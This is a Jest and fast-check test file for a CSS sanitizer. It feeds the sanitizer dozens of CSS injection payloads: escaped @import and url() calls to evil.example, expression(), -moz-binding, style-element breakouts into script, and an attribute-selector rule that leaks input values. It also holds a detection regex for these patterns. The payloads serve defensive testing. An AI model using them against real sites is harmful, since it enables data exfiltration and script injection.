import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { safeCss } from './custom-css.policy.js';

/** Text that makes a browser load a resource, run code, or end the style element. */
const dangerous = /<(?![= ])|url\(|@import|expression\(|javascript:|\\75|\\72|evil|behavior|-moz-binding/i;

describe('unsafe CSS is removed and reported', () => {
  it.each([
    ['an import', '@import "//evil.example/x.css";'],
    ['an import by url()', '@import url(//evil.example/x.css);'],
    ['an import in capitals', '@IMPORT "//evil.example/x.css";'],
    ['an import with an escape', '@\\69mport "//evil.example/x.css";'],
    ['an import with a long escape', '@\\000069mport "//evil.example/x.css";'],
    ['an import with a comment', '@import/**/"//evil.example/x.css";'],
    ['an import into a layer', '@import "//evil.example/x.css" layer(a) supports(display:grid) screen;'],
    ['an import within a media rule', '@media screen { @import "//evil.example/x.css"; }'],
    ['a background', 'a { background: url(//evil.example/x) }'],
    ['a background in quotes', `a { background: URL('//evil.example/x') }`],
    ['a background with an escape', 'a { background: u\\72l(//evil.example/x) }'],
    ['a background with an escape and quotes', 'a { background: \\75rl("//evil.example/x") }'],
    ['a background with all of it escaped', 'a { background: \\75\\72\\6c("//evil.example/x") }'],
    ['a background with an escape that eats a space', 'a { background: u\\72 l("//evil.example/x") }'],
    ['an address that is never closed', 'a { background: url(//evil.example/x'],
    ['a data address', 'a { background: url(data:image/svg+xml,evil) }'],
    ['an image set of texts', 'a { background: image-set("//evil.example/x" 1x) }'],
    ['an image set with a prefix', 'a { background: -webkit-image-set("//evil.example/x" 1x) }'],
    ['an image set with an escape', 'a { background: image\\2dset("//evil.example/x" 1x) }'],
    ['an image of a text', 'a { background: image("//evil.example/x") }'],
    ['src()', 'a { background: src("//evil.example/x") }'],
    ['a cross-fade', 'a { background: -webkit-cross-fade("//evil.example/x", "//evil.example/y", 50%) }'],
    ['a filtered image', 'a { background: filter("//evil.example/x", blur(1px)) }'],
    ['a function that is not known and takes an address', 'a { background: some-image("//evil.example/x") }'],
    ['a painting', 'a { background: paint(evil) }'],
    ['a cursor', 'a { cursor: url(//evil.example/x), auto }'],
    ['content', 'a::after { content: url(//evil.example/x) }'],
    ['an expression', 'a { width: expression(evil()) }'],
    ['an expression with an escape', 'a { width: e\\78pression(evil()) }'],
    ['a behavior', 'a { behavior: evil }'],
    ['a behavior with a star', 'a { *behavior: evil }'],
    ['a behavior with a prefix', 'a { -ms-behavior: evil }'],
    ['a behavior with an escape', 'a { b\\65havior: evil }'],
    ['a binding', 'a { -moz-binding: evil }'],
    ['a binding by address', 'a { -MOZ-BINDING: url(//evil.example/x.xml#y) }'],
    ['a script by address', 'a { background: "javascript:evil()" }'],
    ['a filter of old', `a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example/x') }`],
    ['the end of the style element', 'a { color: red } </style><script>evil()</script>'],
    ['the end of the style element in a string', 'a::after { content: "</style><script>evil()</script>" }'],
    ['the end of the style element in an escaped string', 'a::after { content: "\\3c/style>\\3cscript>evil()" }'],
    ['the end of the style element in a selector', 'a[title="</style><script>evil()"] { color: red }'],
    ['an HTML comment', '<!-- a { background: url(//evil.example/x) } -->'],
    ['a font', '@font-face { font-family: evil; src: url(//evil.example/x.woff) }'],
    ['a font of a machine', '@font-face { font-family: evil; src: local("evil") }'],
    ['a set of characters', '@charset "evil";'],
    ['a namespace', '@namespace evil "//evil.example/x";'],
    ['a document rule', '@-moz-document url-prefix("//evil.example") { a { color: red } }'],
    ['a rule that reads an input letter by letter', 'input[value^="a"] { background-image: url(//evil.example/?a) }'],
    ['a custom property', 'a { --x: url(//evil.example/x) }'],
    ['a custom property with an escape', 'a { --x: \\75rl("//evil.example/x") }'],
    ['a custom property with a block', 'a { --x: { background: url(//evil.example/x) } }'],
    ['the fallback of a missing variable', 'a { background: var(--x, url(//evil.example/x)) }'],
    ['the fallback of a missing variable, with an escape', 'a { background: var(--x, \\75rl("//evil.example/x")) }'],
    ['a nested rule', 'a { &:hover { background: url(//evil.example/x) } }'],
    ['a rule in rules', '@media all { @supports (display: grid) { @layer x { a { background: url(//evil.example/x) } } } }'],
    ['a frame of an animation', '@keyframes x { from { background: url(//evil.example/x) } }'],
    ['a condition', '@supports (background: url(//evil.example/x)) { a { color: red } }'],
    ['a condition with an escape', '@supports (background: \\75rl("//evil.example/x")) { a { color: red } }'],
    ['a name with a null character', 'a { back\0ground: url(//evil.example/x) }'],
    ['an unknown at-rule', '@evil { a { color: red } }'],
    ['brackets that are never opened', '}}}) ] a { background: url(//evil.example/x) }'],
    ['a string with a line break', 'a { content: "x\n; background: url(//evil.example/x) }'],
  ])('%s', (_, css) => {
    const safe = safeCss(css);
    expect(safe.css).not.toMatch(dangerous);
    expect(safe.removed).not.toEqual([]);
    expect(safeCss(safe.css)).toEqual({ css: safe.css, removed: [] });
  });

  it.each([
    ['brackets', `a { width: ${'('.repeat(32_000)}`],
    ['rules', 'a{'.repeat(16_000)],
    ['media rules', '@media x{'.repeat(3500)],
    ['selectors', `${':is('.repeat(8000)} a { color: red }`],
    ['variables', `a { --x: ${'var(--y,'.repeat(4000)}`],
    ['square brackets', '['.repeat(32_000)],
  ])('removes everything when %s are nested too deeply', (_, css) => {
    expect(safeCss(css)).toEqual({ css: '', removed: ['everything: the CSS is nested too deeply'] });
  });

  it.each(['@', ';', '}', ')', '"', "'", '\\', '/*', '*/', 'a:', 'url(', '<', '@a;', 'a{b:c}', 'a{', '!', '\0', '😀', ':not(a)'])(
    'cleans 32 KiB of %j, and lists little of what it removed',
    (piece) => {
      const css = piece.repeat(Math.floor(32_768 / piece.length));
      const safe = safeCss(css);
      expect(safe.css.length).toBeLessThanOrEqual(2 * css.length);
      expect(safe.css).not.toMatch(dangerous);
      expect(safe.removed.length).toBeLessThan(60);
    },
  );

  it('comments are removed, and the parts they separate stay separate', () => {
    expect(safeCss('/*! </style><script>evil()</script> */ a { width: expre/**/ssion(1); background: u/**/rl(x) }').css).toBe('a{width:expre ssion(1);background:u rl(x)}');
  });

  it('safe CSS next to it is kept, and the removed parts are listed', () => {
    expect(safeCss('@import "x"; a { color: red; background: url(//evil.example); margin: 0 } /* note */ b { behavior: x }')).toEqual({
      css: 'a{color:red;margin:0}b{}',
      removed: ['@import', 'background: url()', 'behavior'],
    });
  });
});

describe('a rule is removed as a whole if a part of it is not allowed', () => {
  it.each([
    'a, b::part(url(//evil.example/x)) { color: red }',
    'a:not(b::part("</style>")) { color: red }',
    'a, b::part(image-set("x")) { color: red }',
    'a, b:unknown({}) { color: red }',
    'a, < b { color: red }',
    'a, b[ { color: red }',
    '@media (width < url(//evil.example/x)) { a { color: red } }',
    '@supports selector(a::part(url(x))) { a { color: red } }',
  ])('%s', (css) => {
    expect(safeCss(`p { margin: 0 } ${css}`).css).toBe('p{margin:0}');
  });

  it('a declaration is removed as a whole, and its rule stays', () => {
    expect(safeCss('a { color: red; margin: 0 image-set("x"); --x: 1 url(y) 2; padding: 0 }').css).toBe('a{color:red;padding:0}');
  });
});

describe('safe CSS is kept', () => {
  it.each([
    ['', ''],
    ['a { color: red }', 'a{color:red}'],
    ['.md\\:flex > .w-1\\/2 { display: flex }', '.md\\:flex>.w-1\\/2{display:flex}'],
    ['a:hover::before { content: "\\201C Hi\\"" }', 'a:hover::before{content:"“Hi\\""}'],
    [':root { --brand: #123456; --gap: calc(1px + 2%) }', ':root{--brand:#123456;--gap:calc(1px + 2%)}'],
    ['a { color: var(--brand, var(--other, red)) !important }', 'a{color:var(--brand,var(--other,red))!important}'],
    ['@media (min-width: 600px) and (max-width: 900px) { a { margin: 0 auto } }', '@media (min-width:600px) and (max-width:900px){a{margin:0 auto}}'],
    ['@media screen, print { a { color: red } }', '@media screen,print{a{color:red}}'],
    ['@media (width >= 600px) { a { color: red } }', '@media (width>=600px){a{color:red}}'],
    ['@media (400px <= width <= 700px) { a { color: red } }', '@media (400px<=width<=700px){a{color:red}}'],
    ['@media (width <= 600px) { a { color: red } }', '@media (width<=600px){a{color:red}}'],
    ['@media (400px < width < 700px) { a { color: red } }', '@media (400px< width< 700px){a{color:red}}'],
    ['@media (width < 600px) { a { color: red } }', '@media (width< 600px){a{color:red}}'],
    ['@container card (inline-size <= 30em) { a { color: red } }', '@container card (inline-size<=30em){a{color:red}}'],
    ['x-tabs::part(label) { color: red }', 'x-tabs::part(label){color:red}'],
    ['x-tabs::part(label active):hover, b { color: red }', 'x-tabs::part(label active):hover,b{color:red}'],
    ['x-tabs:state(open)::part(panel) { color: red }', 'x-tabs:state(open)::part(panel){color:red}'],
    ['p::highlight(search-term) { color: red }', 'p::highlight(search-term){color:red}'],
    ['::view-transition-group(.card) { color: red }', '::view-transition-group(.card){color:red}'],
    ['a::slotted(p) { color: red }', 'a::slotted(p){color:red}'],
    ['@supports (display: grid) { a { display: grid } }', '@supports (display:grid){a{display:grid}}'],
    ['@keyframes in { from { opacity: 0 } 50% { opacity: .5 } to { opacity: 1 } }', '@keyframes in{from{opacity:0}50%{opacity:.5}to{opacity:1}}'],
    ['@layer base, brand; @layer brand { a { color: red } }', '@layer base,brand;@layer brand{a{color:red}}'],
    ['@container card (min-width: 10em) { a { color: red } }', '@container card (min-width:10em){a{color:red}}'],
    ['@page :first { margin: 1cm }', '@page :first{margin:1cm}'],
    ['a { background: linear-gradient(45deg, rgb(0 0 0 / 50%), #fff 20%) }', 'a{background:linear-gradient(45deg,rgb(0 0 0/50%),#fff 20%)}'],
    ['a { filter: blur(2px) drop-shadow(0 0 1px red) }', 'a{filter:blur(2px) drop-shadow(0 0 1px red)}'],
    ['a { grid-template-areas: "head head" "side main" }', 'a{grid-template-areas:"head head""side main"}'],
    ['a { font-family: "Fira Code", monospace }', 'a{font-family:"Fira Code",monospace}'],
    ['ol { counter-reset: a } li::before { content: counters(a, ".") attr(title) }', 'ol{counter-reset:a}li::before{content:counters(a,".") attr(title)}'],
    ['input[type="text"]:not([value="x"]), a[href^="https:"] { color: red }', 'input[type="text"]:not([value="x"]),a[href^="https:"]{color:red}'],
    ['a { &:hover { color: red } & > b { color: blue } }', 'a{&:hover{color:red}&>b{color:blue}}'],
    ['a { clip-path: path("M0 0L1 1") }', 'a{clip-path:path("M0 0L1 1")}'],
    ['p:lang("de") { quotes: "«" "»" }', 'p:lang("de"){quotes:"«""»"}'],
  ])('%s', (css, written) => {
    expect(safeCss(css)).toEqual({ css: written, removed: [] });
    expect(safeCss(written).css).toBe(written);
  });
});

/** Texts that look more like CSS, and like attacks, than chance would make them. */
// prettier-ignore
const pieces = fc.constantFrom(
  'a', '.x', '#y', '{', '}', '(', ')', '[', ']', ':', ';', ',', '"', "'", '\\', '/*', '*/', '@', '@import ', '@media ', '@font-face', '@layer a', 'url(', 'u\\72l(',
  'src(', '!important', 'expression(', 'e\\78pression(', 'image-set(', '-moz-binding', 'behavior', 'var(--a,', '--a', 'color', 'red', '<', '</style>', '<!--', '-->', '<=', '< ', '@media (1px<=width<2px){', '::part(', ':state(', '@container (',
  '\\3c ', '\n', ' ', '\0', 'javascript:', '+', '-', '1', '1px', '%', '.5', 'e1', '\\', '\\a ', '=', '^=', '~', '|', '*', '>', '&', 'not', 'and', 'U+1', '#', '$', '!',
  '😀', '\uD800', '\uFEFF', '\f', '\r\n', 'calc(', ':is(', '::a', 'progid:',
);
const likeCss = fc.oneof(
  fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.array(fc.oneof(pieces, fc.string({ maxLength: 5 })), { maxLength: 30 }).map((parts) => `a{${parts.join('')}}`),
);

describe('any input', () => {
  it('results in CSS that loads nothing, runs nothing and does not end the style element, and that a second pass leaves unchanged', () => {
    fc.assert(
      fc.property(likeCss, (text) => {
        const { css } = safeCss(text);
        expect(css).not.toMatch(/<(?![= ])|url\(|@import|expression\(/i);
        expect(safeCss(css)).toEqual({ css, removed: [] });
      }),
      { numRuns: 3000 },
    );
  });
});
